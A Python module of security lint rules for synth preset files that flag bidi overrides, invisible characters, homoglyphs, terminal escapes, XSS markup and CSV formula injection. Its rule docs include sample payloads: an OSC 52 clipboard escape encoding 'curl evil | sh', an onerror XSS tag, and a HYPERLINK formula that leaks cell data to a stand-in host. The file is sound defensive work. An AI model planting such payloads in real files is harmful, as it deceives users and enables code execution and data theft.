"""Text that deceives people or the tools they read it in.

Bidi controls and terminal escape sequences spoof what a name looks like (``Bass\\u202Egpj.exe``
shows as ``Bassexe.jpg``; ``ESC]8;`` hides a link, ``ESC]52;`` writes the clipboard); invisible
characters and mixed-script homoglyphs make two names look the same; HTML and spreadsheet
formulas are harmless to a synth but run in the report or spreadsheet someone opens. Every text
of the file is checked: names, comments, keys, the file name and archive member names.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterator
from functools import lru_cache

from presetctl.engine.formats.base import Document
from presetctl.engine.model import Violation
from presetctl.engine.rules.base import RuleContext, RuleDoc
from presetctl.engine.rules.security.base import HIGH, LOW, security_rule
from presetctl.engine.security.content import Scan, Text
from presetctl.safe_text import excerpt

_BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
_ESCAPE = re.compile("[\x1b\x80-\x9f]")
_INVISIBLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1a\x1c-\x1f\x7f\u00ad\u061c\u115f\u1160\u180e\u200b-\u200f"
                        "\u2060-\u2064\u3164\ufeff\uffa0\U000e0000-\U000e007f]")
_MARKUP = re.compile(r"<\s*/?\s*(?:script|iframe|object|embed|svg|img|style|link|meta|form|base|frame|body)\b"
                     r"|<\s*a\s[^>]*href|javascript\s*:|vbscript\s*:|\bon(?:error|load|click|mouseover|focus|"
                     r"toggle|animationstart)\s*=", re.I)
_FORMULA = re.compile(r"^[\s]*[=+\-@]\s*(?:[A-Za-z_][\w.]*\s*\(|[A-Za-z]+\s*\|)")
_NON_ASCII = re.compile("[^\x00-\x7f]")
_WORD = re.compile(r"\w+")
_CONFUSABLE_SCRIPTS = frozenset({"LATIN", "CYRILLIC", "GREEK", "ARMENIAN", "CHEROKEE", "COPTIC"})
_HUMAN = ("value", "filename", "entry", "key")


def _names(chars: list[str]) -> str:
    return ", ".join(f"U+{ord(c):04X} {unicodedata.name(c, 'control')}" for c in dict.fromkeys(chars))


def _what(t: Text) -> str:
    return {"filename": "file name", "entry": "archive member name", "key": "key", "path": "file reference",
            "decoded": "decoded text"}.get(t.role, "text")


def _owners(scan: Scan, pattern: re.Pattern[str]) -> Iterator[Text]:
    """Texts of the file itself (not decoded payloads) with at least one match."""
    return scan.joined(decoded=False).owners_of(pattern)


def check_bidi(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for t in _owners(scan, _BIDI):
        found = _BIDI.findall(t.text)
        if found:
            yield Violation(f"{_what(t)} {excerpt(t.text)} contains bidirectional controls ({_names(found)}): it "
                            "displays in a different order than it reads", t.location)


def check_invisible(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for t in _owners(scan, _INVISIBLE):
        found = [c for c in _INVISIBLE.findall(t.text) if not (c == "\ufeff" and t.text.startswith(c))]
        if found:
            yield Violation(f"{_what(t)} {excerpt(t.text)} contains invisible characters ({_names(found)})",
                            t.location)


@lru_cache(maxsize=4096)
def _script(ch: str) -> str:
    name = unicodedata.name(ch, "")
    return name.split(" ", 1)[0] if name else ""


def check_homoglyph(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for t in _owners(scan, _NON_ASCII):
        if t.role not in _HUMAN or len(t.text) > 4096:
            continue
        for word in _WORD.findall(t.text):
            if word.isascii():
                continue
            scripts = {s for s in (_script(c) for c in word if c.isalpha()) if s in _CONFUSABLE_SCRIPTS}
            if len(scripts) > 1:
                yield Violation(f"{_what(t)} {excerpt(t.text)} mixes {' and '.join(sorted(scripts)).lower()} letters "
                                f"in the word {excerpt(word, 40)}: it can pass for another name", t.location)
                break


def check_escape(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for t in _owners(scan, _ESCAPE):
        m = _ESCAPE.search(t.text)
        if m is None:
            continue
        yield Violation(f"{_what(t)} {excerpt(t.text)} contains {_escape_kind(t.text, m.start())}: printed on a "
                        "terminal it takes control of it", t.location)


def _escape_kind(text: str, i: int) -> str:
    nxt = text[i + 1 : i + 4]
    if text[i] == "\x1b":
        if nxt.startswith("]8;"):
            return "an OSC 8 escape (a hidden hyperlink)"
        if nxt.startswith("]52"):
            return "an OSC 52 escape (writes the clipboard)"
        if nxt.startswith("]"):
            return "an OSC escape sequence (window title, colours, links)"
        if nxt.startswith("["):
            return "a CSI escape sequence (cursor, colour, erase)"
        if nxt.startswith(("P", "_", "^")):
            return "a DCS/APC/PM escape sequence"
        return "an ESC control character"
    return {"\x9b": "a C1 CSI control (U+009B)", "\x9d": "a C1 OSC control (U+009D)",
            "\x90": "a C1 DCS control (U+0090)"}.get(text[i], f"a C1 control character (U+{ord(text[i]):04X})")


def check_markup(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    joined = scan.joined(decoded=False)
    if not joined.mentions("<", "script:", "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle",
                           "onanimationstart"):
        return
    for t in joined.owners_of(_MARKUP):
        m = _MARKUP.search(t.text)
        if m is not None and t.role in _HUMAN:
            yield Violation(f"{_what(t)} {excerpt(t.text)} contains HTML/script markup ({excerpt(m.group(), 40)}): "
                            "it runs in HTML reports, web preset browsers and forums that show it unescaped",
                            t.location)


def check_formula(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for t in scan.texts():
        if t.role not in _HUMAN or not t.text or t.text.lstrip()[:1] not in ("=", "+", "-", "@"):
            continue
        if _FORMULA.match(t.text):
            yield Violation(f"{_what(t)} {excerpt(t.text)} is a spreadsheet formula: opening an export of the pack "
                            "in a spreadsheet runs it", t.location)


RULES = (
    security_rule("X060", "bidi-control", HIGH, "Bidirectional control characters in text (Trojan Source)",
                  RuleDoc("Reports Unicode bidi embeddings, overrides and isolates (U+202A-U+202E, U+2066-U+2069) in "
                          "any text, the file name and archive member names.",
                          "They reorder what is displayed: `Bass\\u202Egpj.exe` shows as `Bassexe.jpg`. Used to disguise "
                          "executables and to make reviewers read something other than what the software sees.",
                          '`"preset_name": "Pad \\u202egnp.exe"`', "Remove the control characters."),
                  check_bidi),
    security_rule("X061", "invisible-character", LOW, "Invisible or control characters in text",
                  RuleDoc("Reports zero-width characters, soft hyphens, Hangul fillers, tag characters, bidi marks, a "
                          "byte order mark inside text, and C0 control characters other than tab and line breaks.",
                          "Two names that look identical can differ by an invisible character: duplicate names, "
                          "spoofed authors, and search or sort behaving oddly.",
                          '`"name": "Lead\\u200b"`', "Remove the invisible characters."),
                  check_invisible),
    security_rule("X062", "homoglyph-name", LOW, "A word mixes letters of different scripts",
                  RuleDoc("Reports words that mix Latin, Cyrillic, Greek, Armenian, Cherokee or Coptic letters, the "
                          "scripts whose letters look alike.",
                          "`Bаss` with a Cyrillic `а` looks like `Bass` but is a different name: used to impersonate "
                          "authors and packs, and to slip past block lists.",
                          '`"author": "Аlice"` (Cyrillic A)', "Write the word in one script."),
                  check_homoglyph),
    security_rule("X063", "terminal-escape", HIGH, "Terminal escape sequences or C1 controls in text",
                  RuleDoc("Reports ESC and C1 control characters (CSI, OSC 8 hyperlinks, OSC 52 clipboard writes, DCS) "
                          "in any text, the file name and archive member names.",
                          "Printed by `cat`, `ls`, a log viewer or a careless tool, they rewrite the screen, hide text, "
                          "plant links, or write the clipboard (so the next paste runs a command).",
                          '`"preset_name": "Pad\\u001b]52;c;Y3VybCBldmlsIHwgc2gK\\u0007"`',
                          "Remove the control characters."),
                  check_escape),
    security_rule("X064", "html-markup", LOW, "HTML or script markup in text",
                  RuleDoc("Reports `<script>`, `<iframe>`, `<img ... onerror=`, `javascript:` and similar markup in "
                          "names, comments and other texts.",
                          "Harmless to the synth, but preset browsers, shop pages, forums and HTML reports that show "
                          "the text unescaped run it (stored XSS).",
                          '`"comments": "<img src=x onerror=alert(1)>"`', "Remove the markup."),
                  check_markup),
    security_rule("X065", "spreadsheet-formula", LOW, "Text is a spreadsheet formula (CSV injection)",
                  RuleDoc("Reports texts that start with `=`, `+`, `-` or `@` followed by a function call or a DDE "
                          "link (`=HYPERLINK(...)`, `@SUM(...)`, `-cmd|...`).",
                          "Librarians export pack listings to CSV; a spreadsheet that opens the export runs the formula "
                          "(data exfiltration via HYPERLINK/WEBSERVICE, commands via DDE).",
                          '`"preset_name": "=HYPERLINK(\\"http://x/?\\"&A1,\\"Pad\\")"`',
                          "Rename the preset so it does not start with a formula character."),
                  check_formula),
)
